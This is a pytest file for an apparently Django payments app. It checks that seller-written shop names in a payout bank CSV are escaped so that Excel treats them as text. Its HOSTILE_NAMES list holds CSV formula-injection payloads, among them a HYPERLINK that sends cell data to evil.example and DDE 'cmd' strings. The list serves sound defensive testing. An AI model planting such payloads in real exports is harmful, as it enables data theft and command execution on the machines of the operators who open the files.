"""Issue 17 item 5: the payout bank file (and the seller's statement) never hands a spreadsheet a formula.
Shop names are written by sellers; an operator opens the bank file in Excel before sending it."""

import csv
import io

import pytest

from common.csv_export import csv_cell
from payments.models import PayoutBatch
from payments.services.payouts import payout_batch_csv, payout_batch_run
from payments.tests.money import confirmed_sale
from tests.factories import ShopFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_seller_written_names_in_the_bank_file_are_text_not_formulas():
    for index, name in enumerate(HOSTILE_NAMES):
        confirmed_sale(ShopFactory(name=name, slug=f"hostile-{index}"), "50.00")
    honest = ShopFactory(name="湖南老农家", slug="honest")
    confirmed_sale(honest, "128.00", "6.40")
    payout_batch_run()

    rows = list(csv.DictReader(io.StringIO(payout_batch_csv(batch=PayoutBatch.objects.get()))))

    names = {row["shop_slug"]: row["shop_name"] for row in rows}
    for index, name in enumerate(HOSTILE_NAMES):
        assert names[f"hostile-{index}"] == "'" + name
    assert names["honest"] == "湖南老农家"
    assert {row["amount"] for row in rows} == {"50.00", "121.60"}  # numbers stay numbers


def test_a_cell_is_escaped_only_when_a_spreadsheet_would_run_it():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@A1") == "'@A1" and csv_cell("\r=1") == "'\r=1"
    assert csv_cell("-28.00") == "-28.00" and csv_cell("+86") == "+86"  # plain numbers (negative amounts)
    assert csv_cell("-1+1") == "'-1+1"
    assert csv_cell("农家 = 好") == "农家 = 好" and csv_cell(42) == 42 and csv_cell("") == ""
